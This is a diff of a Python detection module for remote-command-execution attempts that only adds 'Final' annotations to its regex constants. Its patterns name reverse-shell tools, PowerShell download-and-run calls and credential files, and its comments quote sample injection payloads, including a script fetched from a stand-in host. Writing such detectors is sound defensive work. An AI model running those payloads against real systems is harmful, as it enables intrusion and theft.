@@ -4,6 +4,7 @@ from __future__ import annotations
 import csv
 import functools
 import re
+from typing import Final
 from urllib.parse import unquote, unquote_plus
 
 from sensor.detect import shellglob
@@ -11,9 +12,9 @@ from sensor.detect.base import Finding
 from sensor.detect.shell_words import (CRS4_UNIX_PROSE, CRS4_WIN_SHORT, PROSE, PS_ALIAS, PS_CANDIDATE, PS_FOLLOW, STRONG,
                                        SUBCOMMANDS, WIN, WIN_STRONG, cmdlet_at, ps_candidates)
 
-TYPE = "rce"
+TYPE: Final = "rce"
 
-TRIGGERS_BASE = [
+TRIGGERS_BASE: Final = [
     r"[;|&`\n]", r"\$\(", r"\$\{", r"\$ifs", r"\(\s*\)\s*\{", r"/(?:bin|usr|etc|dev|tmp|proc|sbin|var|opt)/", r"\{[a-z/]+,",
     r"\b(?:for|if)\b", r"%[a-z_]+%", r"\bpowershell\b", r"\bcmd(?:\.exe)?\b", r"\biex\b", r"\binvoke-",
     r"\b[a-z][a-z0-9_.\-]+\s+(?:-{1,2}[a-z]|/[a-z]|[<>]|\S*/)", r"/[^/\s]*[?*\[][^/\s]*/", r"\?\?", r"\*/", r"\w=\w", r"\balias\s", r"\"\"|''", r"^\s*\\[a-z]", r"[<>]\(", r"\$\[", r"\$\(\(", r"[;\n]\s*\.[a-z]", r"\{,", r"bin/", r"^\s*\(\s*\)", r"^\s*['\"`]+\s*[a-z]+\s*['\"`]+\s*$",
@@ -25,58 +26,58 @@ TRIGGERS_BASE = [
 ]
 
 # at(1) right after a separator: a time specification and the job after it (`;at 2:00 "cmd"`, `;at now + 1 minute`)
-_UNKNOWN_PROGRAM = re.compile(r"^[a-z][a-z0-9_.+-]{1,30}$")
-_OPTION_ARG = re.compile(r"^-{1,2}[a-z][a-z0-9-]*$")
-_TARGET_ARG = re.compile(r"^(?:/[\w.-]+(?:/[\w.-]*)*|\d{1,3}(?:\.\d{1,3}){3}(?:/\d+)?|[a-z][a-z0-9+.-]*://\S+)$")
+_UNKNOWN_PROGRAM: Final = re.compile(r"^[a-z][a-z0-9_.+-]{1,30}$")
+_OPTION_ARG: Final = re.compile(r"^-{1,2}[a-z][a-z0-9-]*$")
+_TARGET_ARG: Final = re.compile(r"^(?:/[\w.-]+(?:/[\w.-]*)*|\d{1,3}(?:\.\d{1,3}){3}(?:/\d+)?|[a-z][a-z0-9+.-]*://\S+)$")
 # Options whose value the program runs as a command (GTFOBins "shell" and "command" entries: tar, ssh, git, rsync, find,
 # zip, sort); the value's first word must name a program or a path.
-_EXEC_OPTION = re.compile(r"(?:--checkpoint-action=exec=|--use-compress-program[= ]|--to-command[= ]|--rsh[= ]|"
-                          r"-o\s*proxycommand[= ]|\bproxycommand=|\bcore\.(?:sshcommand|pager|editor|fsmonitor)=|"
-                          r"(?:^|\s)-exec\s+|--exec[= ]|--compress-program[= ]|\s-tt\s+|--unzip-command[= ]|"
-                          r"--(?:upload|receive)-pack[= ]|\bext::|-o\s*localcommand[= ]|"  # git/ssh option injection
-                          r"\brsync\s+(?:-\w+\s+)*-e\s+)['\"\s]*([a-z/.][\w/.\-]*)")
+_EXEC_OPTION: Final = re.compile(r"(?:--checkpoint-action=exec=|--use-compress-program[= ]|--to-command[= ]|--rsh[= ]|"
+                                 r"-o\s*proxycommand[= ]|\bproxycommand=|\bcore\.(?:sshcommand|pager|editor|fsmonitor)=|"
+                                 r"(?:^|\s)-exec\s+|--exec[= ]|--compress-program[= ]|\s-tt\s+|--unzip-command[= ]|"
+                                 r"--(?:upload|receive)-pack[= ]|\bext::|-o\s*localcommand[= ]|"  # git/ssh option injection
+                                 r"\brsync\s+(?:-\w+\s+)*-e\s+)['\"\s]*([a-z/.][\w/.\-]*)")
 # Every text _EXEC_OPTION matches holds one of these: an option's `--`, or the words of the others. Tried at every
 # position, its alternation cost `re` ~30 µs on a 130-character URL with a `-` in it (a Referer), matching nothing.
-_EXEC_KEYS = ("--", "proxycommand", "localcommand", "-exec", "-tt", "ext::", "rsync", "core.")
+_EXEC_KEYS: Final = ("--", "proxycommand", "localcommand", "-exec", "-tt", "ext::", "rsync", "core.")
 # The whole value is options for the program the application runs: `-c CMD` (a shell's command string), or an output
 # file where a web server or cron picks it up (`--output=/var/www/html/x.php`: curl/wget argument injection).
-_ARG_INJECTION = re.compile(r"^\s*-{1,2}c(?:ommand)?[= ]\s*['\"]?([a-z/][\w/.\-]*)|"
-                            r"^\s*(?:--output(?:-document)?[= ]|--log-file[= ]|-o\s?|-O\s?)['\"]?"
-                            r"(/\S*\.(?:php\d?|phtml|jsp|jspx|aspx?|cgi|sh|py|pl)\b|/var/www/\S*|/etc/cron\S*|\S*/\.ssh/\S*)")
+_ARG_INJECTION: Final = re.compile(r"^\s*-{1,2}c(?:ommand)?[= ]\s*['\"]?([a-z/][\w/.\-]*)|"
+                                   r"^\s*(?:--output(?:-document)?[= ]|--log-file[= ]|-o\s?|-O\s?)['\"]?"
+                                   r"(/\S*\.(?:php\d?|phtml|jsp|jspx|aspx?|cgi|sh|py|pl)\b|/var/www/\S*|/etc/cron\S*|\S*/\.ssh/\S*)")
 # The whole value is rsync's (or scp's) remote-shell option naming a shell or a downloader instead of ssh: rsync runs
 # it (`-e sh -c 'id>/tmp/o' x:/`, `--rsh='bash -c id' h:`); `-e ssh`, `-e "ssh -p 2222"`, `-e NODE_ENV=x` stay options.
-_REMOTE_SHELL_OPT = re.compile(r"""^\s*(?:-e|--rsh)[\s=]*['"]?\s*(?:(?:/usr)?(?:/local)?/s?bin/)?"""
-                               r"""(?:sh|bash|dash|zsh|ksh|csh|tcsh|ash|busybox|nc|ncat|netcat|socat|telnet|curl|wget|"""
-                               r"""python[\d.]*|perl|ruby|php|node|powershell|pwsh)(?=$|[\s'"])""")
+_REMOTE_SHELL_OPT: Final = re.compile(r"""^\s*(?:-e|--rsh)[\s=]*['"]?\s*(?:(?:/usr)?(?:/local)?/s?bin/)?"""
+                                      r"""(?:sh|bash|dash|zsh|ksh|csh|tcsh|ash|busybox|nc|ncat|netcat|socat|telnet|curl|wget|"""
+                                      r"""python[\d.]*|perl|ruby|php|node|powershell|pwsh)(?=$|[\s'"])""")
 # Ghostscript opens `%pipe%cmd` (and an OutputFile of `|cmd`) with popen: PostScript or a `-sOutputFile=` argument that
 # names a program there runs it (CVE-2023-36664, the -dSAFER bypasses); `%pipe% device docs` names no program.
-_GS_PIPE = re.compile(r"""(?:%pipe%|outputfile\s*(?:=|\(|\s)\s*\|)\s*['"]?([a-z/.][\w/.\-]*)""")
+_GS_PIPE: Final = re.compile(r"""(?:%pipe%|outputfile\s*(?:=|\(|\s)\s*\|)\s*['"]?([a-z/.][\w/.\-]*)""")
 # A URL for a downloader, then more words: what follows the URL becomes the downloader's own options.
-_URL_THEN_OPTION = re.compile(r"^\s*(?:https?|ftp)://\S+\s+(?=-)")
+_URL_THEN_OPTION: Final = re.compile(r"^\s*(?:https?|ftp)://\S+\s+(?=-)")
 # Names that are abbreviations or words (`Mexico City | DF`, `GPS | Maps`, `Salt | Hash`): commands only with arguments.
 # `host` is also a header's name (SigV4's `X-Amz-SignedHeaders=content-type;host`): bare it only prints its usage.
-_ABBREVIATIONS = {"df", "du", "host"} | CRS4_WIN_SHORT | CRS4_UNIX_PROSE
-_AT_TIME = re.compile(r"^(?:\d{1,2}(?::\d{2})?(?:am|pm)?|now|midnight|noon|teatime)$")
-_ALL = STRONG | WIN
+_ABBREVIATIONS: Final = {"df", "du", "host"} | CRS4_WIN_SHORT | CRS4_UNIX_PROSE
+_AT_TIME: Final = re.compile(r"^(?:\d{1,2}(?::\d{2})?(?:am|pm)?|now|midnight|noon|teatime)$")
+_ALL: Final = STRONG | WIN
 
-_WIN_FLOW = re.compile(
+_WIN_FLOW: Final = re.compile(
     r"(?<!\{%)(?<!\{%-)(?<!\{%\s)(?<!\{%-\s)\bif(?:\s*/i)?(?:\s+not)?\s+(?:exist\b|defined\b|errorlevel\b|cmdextversion\b|[^\s(]\S*\s*==|\([^()\s]*\)\s*==|\(?\s*\S+\s+(?:equ|neq|lss|leq|gtr|geq)\s+\S+)|"
     r"\bfor(?:\s*/[a-z]+(?:\s+\"[^\"]*\"|\s+[a-z]:\\\S*)?)*\s+%%?~?\S{1,30}\s+in\s*\(.*\)\s*do\b", re.I | re.S)
 # cmd.exe's `if` on a variable, cut where its `==` began: a cookie or parameter *name* (`Cookie: &if /i "%OS%"=="x" calc`
 # arrives as the name `&if /i "%OS%"`), or a value ending there.
-_WIN_IF_CUT = re.compile(r"^\s*(?:[&|;]{1,2}\s*)?if(?:\s*/i)?(?:\s+not)?\s+\"?%[a-z_]\w{0,30}%\"?\s*$", re.I)
+_WIN_IF_CUT: Final = re.compile(r"^\s*(?:[&|;]{1,2}\s*)?if(?:\s*/i)?(?:\s+not)?\s+\"?%[a-z_]\w{0,30}%\"?\s*$", re.I)
 # lwp-request's `GET`/`HEAD`/`POST` (upper case: the names it installs) in command position, fetching a URL into a file
 # or into an interpreter (`x;GET http://e.example/s.pl > /tmp/s.pl`); API documentation writes the method before a
 # path or a URL, never a redirection into a file after it.
-_LWP_REQUEST = re.compile(r"(?:^|[;&|\n`]|\$\()[ \t]*(?:GET|HEAD|POST|lwp-request)[ \t]+(?:-\S+[ \t]+)*(?:https?|ftp)://\S+"
-                          r"(?:[ \t]+-\S+)*[ \t]*(?:>{1,2}[ \t]*(?:[~./$]|[a-z]:\\)|\|[ \t]*(?:(?:/usr)?/bin/)?"
-                          r"(?:(?:ba|z|k|da|c|tc|a)?sh|python[\d.]*|perl|ruby|php|node|tee)\b)")
+_LWP_REQUEST: Final = re.compile(r"(?:^|[;&|\n`]|\$\()[ \t]*(?:GET|HEAD|POST|lwp-request)[ \t]+(?:-\S+[ \t]+)*(?:https?|ftp)://\S+"
+                                 r"(?:[ \t]+-\S+)*[ \t]*(?:>{1,2}[ \t]*(?:[~./$]|[a-z]:\\)|\|[ \t]*(?:(?:/usr)?/bin/)?"
+                                 r"(?:(?:ba|z|k|da|c|tc|a)?sh|python[\d.]*|perl|ruby|php|node|tee)\b)")
 # A cmdlet (or its alias) that runs a script block: `icm -ScriptBlock {whoami}`, `Start-Job -ScriptBlock { … }`.
 # (`(?![^\S\n]*+\n)`: a separator followed through blanks by a newline leaves the match to that newline, which
 # reaches the same text; every newline of a long run rescanned the run to its end, quadratic)
-_PS_SCRIPTBLOCK = re.compile(r"(?:^|[;|&\n({`])(?![^\S\n]*+\n)\s*(?:icm|invoke-command|sajb|start-job|start-threadjob)\s+"
-                             r"(?:-[a-z]+\s+(?!-)[^\s{}]+\s+)*-scriptblock\s*\{\s*[^\s}]")
-_WIN_MISC = re.compile(
+_PS_SCRIPTBLOCK: Final = re.compile(r"(?:^|[;|&\n({`])(?![^\S\n]*+\n)\s*(?:icm|invoke-command|sajb|start-job|start-threadjob)\s+"
+                                    r"(?:-[a-z]+\s+(?!-)[^\s{}]+\s+)*-scriptblock\s*\{\s*[^\s}]")
+_WIN_MISC: Final = re.compile(
     r"%[a-z_][\w()]{0,30}:(?:~-?\d{1,4}(?:,-?\d{1,4})?|[^%=\s]{1,20}=[^%]{0,20})%|%comspec%|"
     r"\biex\s*[(\$'\"]|\|\s*iex\b|\b(?:invoke-expression|new-object\s+(?:system\.)?net\.(?:webclient|sockets)|"
     r"downloadstring|downloadfile|frombase64string|-encodedcommand|-enc\s+[a-z0-9+/=]{8,}|set-executionpolicy|"
@@ -84,76 +85,76 @@ _WIN_MISC = re.compile(
     r"\bpowershell(?:\.exe)?\s+-|\brundll32(?:\.exe)?\s+\S+,", re.I)
 # Windows names that support questions and documentation also write (`%appdata% folder`, `C:\Windows\System32`,
 # `Get-ChildItem examples`): alone they are words; in a command line (separators, options, a pipe) they are shell.
-_WIN_WEAK = re.compile(
+_WIN_WEAK: Final = re.compile(
     r"%(?:systemroot|systemdrive|windir|programfiles|programdata|appdata|localappdata|temp|tmp|userprofile|homedrive|"
     r"homepath|computername|username|userdomain|path|public|allusersprofile)%|\\windows\\system32\\|c:\\windows\\|"
     r"\b(?:invoke-webrequest|invoke-restmethod|invoke-command|start-process|get-wmiobject|get-ciminstance|get-process|"
     r"get-childitem|get-content|get-itemproperty|set-content|out-file|stop-process|remove-item)\b", re.I)
 # A drive or UNC path to a program in command position: right after a separator (alone it is a file name field).
 # (a separator start as in _PS_SCRIPTBLOCK)
-_WIN_PROGRAM = re.compile(r"[;&|\n](?![^\S\n]*+\n)\s*[\"']?(?:[a-z]:|\\\\[\w.$\-]+)\\[^;&|\n\"'<>]{0,200}?"
-                          r"\.(?:exe|bat|cmd|com|ps1|vbs|hta|scr)\b")
-_WIN_CONTEXT = re.compile(r"[;&|`\n]|\s-[a-z]{2,}\b|\$\(|^\s*(?:type|dir|copy|del|more|cd|start|call|echo)\s|"
-                          r"\s(?:[a-z]+://|[a-z]:\\|\\\\)\S|\.(?:ps1|hta|vbs|sct)\b", re.I)
+_WIN_PROGRAM: Final = re.compile(r"[;&|\n](?![^\S\n]*+\n)\s*[\"']?(?:[a-z]:|\\\\[\w.$\-]+)\\[^;&|\n\"'<>]{0,200}?"
+                                 r"\.(?:exe|bat|cmd|com|ps1|vbs|hta|scr)\b")
+_WIN_CONTEXT: Final = re.compile(r"[;&|`\n]|\s-[a-z]{2,}\b|\$\(|^\s*(?:type|dir|copy|del|more|cd|start|call|echo)\s|"
+                                 r"\s(?:[a-z]+://|[a-z]:\\|\\\\)\S|\.(?:ps1|hta|vbs|sct)\b", re.I)
 # A record of `Label: value` lines only (crash reports, event logs, service listings); _KV_VALUE takes each value.
-_KV_RECORD = re.compile(r"(?:[ \t]*[a-z][\w .()/\-]{0,40}:[ \t][^\n]*(?:\n|$))+")  # (`[ \t]+[^\n]*`: quadratic)
-_KV_VALUE = re.compile(r"^[ \t]*[a-z][\w .()/\-]{0,40}:[ \t]+([^\n]*?)[ \t\r]*$", re.M)
+_KV_RECORD: Final = re.compile(r"(?:[ \t]*[a-z][\w .()/\-]{0,40}:[ \t][^\n]*(?:\n|$))+")  # (`[ \t]+[^\n]*`: quadratic)
+_KV_VALUE: Final = re.compile(r"^[ \t]*[a-z][\w .()/\-]{0,40}:[ \t]+([^\n]*?)[ \t\r]*$", re.M)
 # Cheap substring gate for _WIN_MISC and _WIN_WEAK (one of these occurs in every string they can match).
-_WIN_KEYS = ("%", "iex", "invoke-", "start-process", "new-object", "download", "frombase64", "-enc", "set-execution",
-             "get-", "add-mppreference", "cmd", "powershell", "\\windows\\", "c:\\windows", "rundll32", "out-file",
-             "set-content", "stop-process", "remove-item")
-_SHELLSHOCK = re.compile(r"\(\s*\)\s*\{[^}]*[;}]")
-_NAMED_FUNC = re.compile(r"(?:[\w$.]|\bfunction)\s*$")  # text before `() {` ending in a name: a definition or call
+_WIN_KEYS: Final = ("%", "iex", "invoke-", "start-process", "new-object", "download", "frombase64", "-enc", "set-execution",
+                    "get-", "add-mppreference", "cmd", "powershell", "\\windows\\", "c:\\windows", "rundll32", "out-file",
+                    "set-content", "stop-process", "remove-item")
+_SHELLSHOCK: Final = re.compile(r"\(\s*\)\s*\{[^}]*[;}]")
+_NAMED_FUNC: Final = re.compile(r"(?:[\w$.]|\bfunction)\s*$")  # text before `() {` ending in a name: a definition or call
 # A named shell function whose body pipes or backgrounds (`bomb(){ bomb|bomb& }`): JS/C bodies use `||`, `&&`.
-_FORK = re.compile(r"\(\s*\)\s*\{[^}]*?(?<![|&])[|&](?![|&])[^}]*\}")
-_SHELLSHOCK_START = re.compile(r"^\s*\(\s*\)\s*\{")
-_BIN_PATH = re.compile(r"(?:^|[\s;|&=`(])/?(?:usr/(?:local/)?)?s?bin/[a-z][\w.\-]*")
-_DEV_TCP = re.compile(r"/dev/(?:tcp|udp)/|\b(?:bash|sh)\s+-i\s*[>&]|\bnc(?:at)?\s+(?:-\w+\s+)*-e\s|\bmkfifo\s|\b0<&\d")
-_IFS = re.compile(r"\$\{ifs(?:[^}]*)\}|\$ifs(?:\$\d|\b)?", re.I)
-_DEFAULT = re.compile(r"\$\{[a-z_][a-z0-9_]*:?[-=]([\"']?)([^{}$\"']*)\1\}")
-_PATHVAR = re.compile(r"\$\{(?:path|home|pwd|shell|oldpwd)\s*:\s*0\s*:\s*1\}", re.I)
-_POSITIONAL = re.compile(r"\$(?:[@*#?!\d]|\{[@*#?!\d]\})")
+_FORK: Final = re.compile(r"\(\s*\)\s*\{[^}]*?(?<![|&])[|&](?![|&])[^}]*\}")
+_SHELLSHOCK_START: Final = re.compile(r"^\s*\(\s*\)\s*\{")
+_BIN_PATH: Final = re.compile(r"(?:^|[\s;|&=`(])/?(?:usr/(?:local/)?)?s?bin/[a-z][\w.\-]*")
+_DEV_TCP: Final = re.compile(r"/dev/(?:tcp|udp)/|\b(?:bash|sh)\s+-i\s*[>&]|\bnc(?:at)?\s+(?:-\w+\s+)*-e\s|\bmkfifo\s|\b0<&\d")
+_IFS: Final = re.compile(r"\$\{ifs(?:[^}]*)\}|\$ifs(?:\$\d|\b)?", re.I)
+_DEFAULT: Final = re.compile(r"\$\{[a-z_][a-z0-9_]*:?[-=]([\"']?)([^{}$\"']*)\1\}")
+_PATHVAR: Final = re.compile(r"\$\{(?:path|home|pwd|shell|oldpwd)\s*:\s*0\s*:\s*1\}", re.I)
+_POSITIONAL: Final = re.compile(r"\$(?:[@*#?!\d]|\{[@*#?!\d]\})")
 # Inside a word, `$()`, `$-`, `$_`, `${}`, one-letter and braced (`c${u}at`) unset variables expand to nothing.
-_EMPTY_VAR = re.compile(r"(?<=[a-z])\$(?:\(\)|\{\}|[-_]|([a-z])(?![a-z0-9_])|\{([a-z_][a-z0-9_]{0,15})\}(?=[a-z]))|\$\(\)")
-_DOLLAR_QUOTE = re.compile(r"\$(?=['\"])")
+_EMPTY_VAR: Final = re.compile(r"(?<=[a-z])\$(?:\(\)|\{\}|[-_]|([a-z])(?![a-z0-9_])|\{([a-z_][a-z0-9_]{0,15})\}(?=[a-z]))|\$\(\)")
+_DOLLAR_QUOTE: Final = re.compile(r"\$(?=['\"])")
 # `name=value` assignments (value quoted, escaped or bare) whose later `$name` / `${name}` the shell substitutes.
-_ASSIGN = re.compile(r"(?:^|[;&|\s`(])([a-z_][a-z0-9_]{0,30})=('[^']*'|\"[^\"]*\"|(?:\\.|[^\s;&|`\\])*)")
-_ESCAPED = re.compile(r"\\(.)")  # a backslash and the character it quotes
-_VAR_USE = re.compile(r"\$\{([a-z_][a-z0-9_]{0,30})\}|\$([a-z_][a-z0-9_]*)")  # what _substitute expands
-_VAR_WORD = re.compile(r"^\$\{?([a-z_][a-z0-9_]*)\}?$")
-_WORD_VAR = re.compile(r"\$\{[a-z_][a-z0-9_]*\}|\$[a-z_][a-z0-9_]*")
-_WIN_SWITCH = re.compile(r"^([a-z][\w.\-]*)/[a-z?]{1,3}$")
-_PKG_MANAGERS = {"pip", "pip3", "npm", "gem", "apt", "apt-get", "yum", "dnf", "brew", "cargo", "composer", "yarn",
-                 "conda", "apk", "pacman", "zypper", "pipx", "easy_install", "poetry", "bun"}
-_PKG_VERBS = {"install", "uninstall", "add", "remove", "update", "upgrade", "download", "exec", "run", "purge", "erase"}
-_SHELLS = {"sh", "bash", "zsh", "ksh", "dash", "csh", "tcsh", "ash", "rc", "busybox", "su", "sudo"}
+_ASSIGN: Final = re.compile(r"(?:^|[;&|\s`(])([a-z_][a-z0-9_]{0,30})=('[^']*'|\"[^\"]*\"|(?:\\.|[^\s;&|`\\])*)")
+_ESCAPED: Final = re.compile(r"\\(.)")  # a backslash and the character it quotes
+_VAR_USE: Final = re.compile(r"\$\{([a-z_][a-z0-9_]{0,30})\}|\$([a-z_][a-z0-9_]*)")  # what _substitute expands
+_VAR_WORD: Final = re.compile(r"^\$\{?([a-z_][a-z0-9_]*)\}?$")
+_WORD_VAR: Final = re.compile(r"\$\{[a-z_][a-z0-9_]*\}|\$[a-z_][a-z0-9_]*")
+_WIN_SWITCH: Final = re.compile(r"^([a-z][\w.\-]*)/[a-z?]{1,3}$")
+_PKG_MANAGERS: Final = {"pip", "pip3", "npm", "gem", "apt", "apt-get", "yum", "dnf", "brew", "cargo", "composer", "yarn",
+                        "conda", "apk", "pacman", "zypper", "pipx", "easy_install", "poetry", "bun"}
+_PKG_VERBS: Final = {"install", "uninstall", "add", "remove", "update", "upgrade", "download", "exec", "run", "purge", "erase"}
+_SHELLS: Final = {"sh", "bash", "zsh", "ksh", "dash", "csh", "tcsh", "ash", "rc", "busybox", "su", "sudo"}
 # Programs that are words of every text about code (`git log --oneline` in a search, `svnadmin|git lfs|large files`):
 # commands only where a separator on the same line puts them (`x|git config --list`, `a; mount -o remount,rw /`).
-_AFTER_SEPARATOR = {"git", "mount"}
+_AFTER_SEPARATOR: Final = {"git", "mount"}
 # (not a backtick: `use `git status` first` is a Markdown code span far more often than a substitution)
-_CHAIN_SEPS = (";", "|", "||", "&&", "&", "$(")
-_TILDE = re.compile(r"^\s*~(?:[+\-]\d*|0+)\s*$")
+_CHAIN_SEPS: Final = (";", "|", "||", "&&", "&", "$(")
+_TILDE: Final = re.compile(r"^\s*~(?:[+\-]\d*|0+)\s*$")
 # `!!`, `!-2` are history events; `!!!` is an exclamation
-_HISTORY = re.compile(r"(?:^|[\s;&|`]|\$\()!(?:-\d+(?=$|[\s;&|!`)])|!(?=$|[\s;&|`)]))")
+_HISTORY: Final = re.compile(r"(?:^|[\s;&|`]|\$\()!(?:-\d+(?=$|[\s;&|!`)])|!(?=$|[\s;&|`)]))")
 # `${SHELL} -c …`, `$EDITOR -x`: a variable that names a program, run with options
-_VAR_COMMAND = re.compile(r"^\s*\$\{?(?:shell|bash|sh|editor|visual|pager|browser|0)\}?\s+-{1,2}[a-z]")
+_VAR_COMMAND: Final = re.compile(r"^\s*\$\{?(?:shell|bash|sh|editor|visual|pager|browser|0)\}?\s+-{1,2}[a-z]")
 # (also the head alone, named in a sentence: `data:image/png;base64 in css background`; `;base64 -d /etc/passwd` or
 # a path after it stays a command)
-_DATA_URI_HEAD = re.compile(r"(?<![\w.-])data:[a-z]+/[a-z0-9.+\-]+(?:;[a-z0-9\-]+=[^;,\s]*)*;base64"
-                            r"(?:,|(?=[ \t]*$|(?:[ \t]+[a-z0-9][\w\-]*[.,!?]?)+[ \t]*$))", re.M)
-_TITLE = re.compile(r"^[ \t]*[a-z][a-z0-9]*(?:\.exe)?[ \t]+[a-z]{2,}[ \t]*$")  # `ansible-vault x`: compound names are tools
+_DATA_URI_HEAD: Final = re.compile(r"(?<![\w.-])data:[a-z]+/[a-z0-9.+\-]+(?:;[a-z0-9\-]+=[^;,\s]*)*;base64"
+                                   r"(?:,|(?=[ \t]*$|(?:[ \t]+[a-z0-9][\w\-]*[.,!?]?)+[ \t]*$))", re.M)
+_TITLE: Final = re.compile(r"^[ \t]*[a-z][a-z0-9]*(?:\.exe)?[ \t]+[a-z]{2,}[ \t]*$")  # `ansible-vault x`: compound names are tools
 # Where programs are run from: an absolute path of two or more parts, a `bin`/`sbin` folder, `./`, `../`, or any
 # path spelled with globs (`/???/c?t`); the last part names the program.
-_PROGRAM_PATH = re.compile(r"^(?:/[^/]*/.*|(?:[^/]*/)*s?bin/[^/]+|\.{1,2}/.*|.*[?*\[].*)$")
-_GROUP = re.compile(r"\{[^{};\n&|]*[;\n&|][^{}]*\}|\{[^{}]*$")  # a `{ …; }` command group (or one left open)
-_PLAIN_EXPANSION = re.compile(r"\$\{([a-z_][a-z0-9_.]*)\}")
-_SHELL_ENV = {"path", "home", "shell", "pwd", "oldpwd", "user", "ifs", "ps1", "ps4", "bash", "bash_env", "env",
-              "ld_preload", "hostname", "uid", "euid", "random", "histfile", "term"}
-_NUMBER_ARG = re.compile(r"^\d{1,6}(?:[.:]\d{1,4})?[smhd]?$")
-_PREFIX_CMDS = {"time", "nohup", "sudo", "xargs", "env", "exec", "timeout", "nice", "strace", "watch", "busybox", "doas"}
+_PROGRAM_PATH: Final = re.compile(r"^(?:/[^/]*/.*|(?:[^/]*/)*s?bin/[^/]+|\.{1,2}/.*|.*[?*\[].*)$")
+_GROUP: Final = re.compile(r"\{[^{};\n&|]*[;\n&|][^{}]*\}|\{[^{}]*$")  # a `{ …; }` command group (or one left open)
+_PLAIN_EXPANSION: Final = re.compile(r"\$\{([a-z_][a-z0-9_.]*)\}")
+_SHELL_ENV: Final = {"path", "home", "shell", "pwd", "oldpwd", "user", "ifs", "ps1", "ps4", "bash", "bash_env", "env",
+                     "ld_preload", "hostname", "uid", "euid", "random", "histfile", "term"}
+_NUMBER_ARG: Final = re.compile(r"^\d{1,6}(?:[.:]\d{1,4})?[smhd]?$")
+_PREFIX_CMDS: Final = {"time", "nohup", "sudo", "xargs", "env", "exec", "timeout", "nice", "strace", "watch", "busybox", "doas"}
 # Characters words() treats specially; everything else is copied into the current word in runs.
-_PLAIN = re.compile(r"[^\\\"' \t\r\x0b\x0c,+<>$;|&\n`(){}]+")
-_SEPS = (";", "|", "&", "\n", "`", "(", ")", "{", "}")
+_PLAIN: Final = re.compile(r"[^\\\"' \t\r\x0b\x0c,+<>$;|&\n`(){}]+")
+_SEPS: Final = (";", "|", "&", "\n", "`", "(", ")", "{", "}")
 
 
 def _expand_braces(pre: str, body: str, post: str) -> str:
@@ -161,9 +162,9 @@ def _expand_braces(pre: str, body: str, post: str) -> str:
 
 
 # a comma before the first blank, by lookahead (`[^{}\s]*,[^{}]*` split a long comma run every way)
-_BRACE_BODY = re.compile(r"\{((?=[^{}\s]*,)[^{}]*)\}")
-_WORD_RUN = re.compile(r"[^\s{},;|&]*")
-_NOT_WORD = frozenset("{},;|&")
+_BRACE_BODY: Final = re.compile(r"\{((?=[^{}\s]*,)[^{}]*)\}")
+_WORD_RUN: Final = re.compile(r"[^\s{},;|&]*")
+_NOT_WORD: Final = frozenset("{},;|&")
 
 
 def brace_spans(s: str, first_only: bool = False) -> list[tuple[int, int, str, str, str]]:
@@ -211,7 +212,7 @@ def _drop_empty_var(m: re.Match) -> str:
 
 
 # `~+/` and `~-/` begin a path in $PWD and $OLDPWD (a directory elsewhere); the tokenizer would split at the `+`.
-_TILDE_DIR = re.compile(r"(?<![\w~])~([+\-])/")
+_TILDE_DIR: Final = re.compile(r"(?<![\w~])~([+\-])/")
 
 
 def normalize(s: str) -> str:
@@ -344,9 +345,9 @@ def scan_words(s: str, limit: int = 400) -> list[tuple[str, str]]:
 
 
 # Tool families; the ones whose name is also an English word (`salt & vinegar`, `AA batteries`) only with a suffix.
-_FAMILY = re.compile(r"^(?:ansible|terraform|gcloud|kubeadm|kubelet)(?:-[a-z]+)?$|"
-                     r"^(?:chef|knife|salt|aa|helm|vault|consul|nomad|packer)-[a-z]+$")
-_VERSIONED = re.compile(r"^(python|perl|ruby|php|lua|node|pip|gcc|g\+\+|clang|java|tclsh|bash|zsh)[\d.\-]+$")
+_FAMILY: Final = re.compile(r"^(?:ansible|terraform|gcloud|kubeadm|kubelet)(?:-[a-z]+)?$|"
+                            r"^(?:chef|knife|salt|aa|helm|vault|consul|nomad|packer)-[a-z]+$")
+_VERSIONED: Final = re.compile(r"^(python|perl|ruby|php|lua|node|pip|gcc|g\+\+|clang|java|tclsh|bash|zsh)[\d.\-]+$")
 
 
 def _substitute(s: str) -> str:
@@ -417,8 +418,8 @@ def _known_command(w: str) -> str | None:
     return None
 
 
-_BIN_DIRS = ("/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin", "/usr/local/sbin")
-_BIN_DIR_NAMES = shellglob.Names(_BIN_DIRS)
+_BIN_DIRS: Final = ("/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin", "/usr/local/sbin")
+_BIN_DIR_NAMES: Final = shellglob.Names(_BIN_DIRS)
 
 
 def _bin_dir(d: str) -> bool:
@@ -426,7 +427,7 @@ def _bin_dir(d: str) -> bool:
     return d[:1] == "/" and "*" not in d and _BIN_DIR_NAMES.first_match(d) is not None
 
 
-_STRONG_NAMES = shellglob.Names(STRONG)
+_STRONG_NAMES: Final = shellglob.Names(STRONG)
 
 
 @functools.lru_cache(maxsize=1024)
@@ -435,18 +436,18 @@ def _glob_command(pattern: str) -> str | None:
     return _STRONG_NAMES.first_match(pattern)
 
 
-_SENSITIVE_ARG = re.compile(r"^/(?:etc|bin|usr|tmp|dev|proc|var|home|root|sbin|opt|sys|boot|lib|windows)\b", re.I)
-_WEAK_ARG = re.compile(r"^(?:/[a-z0-9_.\-]+/|\.{1,2}/|[a-z0-9_.\-]+\.(?:sh|py|pl|php|rb|txt|log|conf|cfg|ini|gz)$)", re.I)
-_SHELLISH_ARG = re.compile(r"^(?:-{1,2}[a-z0-9]|[a-z]:(?:[\\/ ]|$)|hk(?:lm|cu|cr|cc)|hkey_|[a-z]{1,8}=/|/(?:etc|bin|usr|tmp|dev|proc|var|home|root|sbin|opt|sys|boot|lib|windows)\b|"
-                           r"/[a-z]$|[a-z]+://|\.{1,2}/.|~/|\$|\d+\.\d+\.\d+\.\d+|/\S*[?*\[]|(?:passwd|shadow|id_rsa|authorized_keys|\.bash_history|\.ssh|sudoers|crontab)$|[a-z0-9_.\-]+\.(?:sh|py|pl|php|rb|elf|bin|txt|log|conf|cfg|ini|exe|bat|ps1)$|"
-                           r"/[a-z0-9_.\-]+/)", re.I)
+_SENSITIVE_ARG: Final = re.compile(r"^/(?:etc|bin|usr|tmp|dev|proc|var|home|root|sbin|opt|sys|boot|lib|windows)\b", re.I)
+_WEAK_ARG: Final = re.compile(r"^(?:/[a-z0-9_.\-]+/|\.{1,2}/|[a-z0-9_.\-]+\.(?:sh|py|pl|php|rb|txt|log|conf|cfg|ini|gz)$)", re.I)
